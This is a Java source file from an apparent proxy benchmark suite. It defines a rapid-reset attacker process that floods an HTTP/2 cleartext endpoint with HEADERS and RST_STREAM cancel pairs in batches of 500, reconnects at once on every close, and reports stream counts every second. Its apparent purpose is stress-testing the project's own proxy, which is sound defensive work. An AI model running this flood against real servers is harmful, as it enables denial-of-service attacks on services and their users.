package io.gatehouse.bench;

import java.io.IOException;
import java.util.concurrent.atomic.AtomicLong;

/**
 * The attacker process of {@link RapidResetUnderLoad}: one h2c connection at a time from
 * {@code sourceAddress}, writing HEADERS + RST_STREAM(CANCEL) pairs in batches of 500 as fast as
 * the socket takes them and reconnecting at once whenever the proxy closes the connection (or
 * refuses it). Never reads. Runs until killed; prints its totals every second on stdout
 * ({@code attack streams=N connections=M}).
 *
 * <p>
 * Usage: {@code java -cp gatehouse-bench.jar io.gatehouse.bench.RapidResetAttacker port
 * [sourceAddress]} (default source 127.0.0.2).
 */
public final class RapidResetAttacker {
  private RapidResetAttacker() {
  }

  public static void main(String[] args) {
    int port = Integer.parseInt(args[0]);
    String source = args.length > 1 ? args[1] : "127.0.0.2";
    AtomicLong streams = new AtomicLong();
    AtomicLong connections = new AtomicLong();
    Thread.ofPlatform().daemon().name("report").start(() -> {
      while (true) {
        sleep(1000);
        System.out.printf("attack streams=%d connections=%d%n", streams.get(), connections.get());
        System.out.flush();
      }
    });
    while (true) {
      connections.incrementAndGet();
      try (H2cWire w = new H2cWire(source, port)) {
        while (true) {
          w.openAndReset("/ok", 500);
          streams.addAndGet(500);
        }
      } catch (IOException closedOrRefusedByProxy) {
        // reconnect at once: the worst case for the proxy's accept path
      }
    }
  }

  private static void sleep(long millis) {
    try {
      Thread.sleep(millis);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }
}
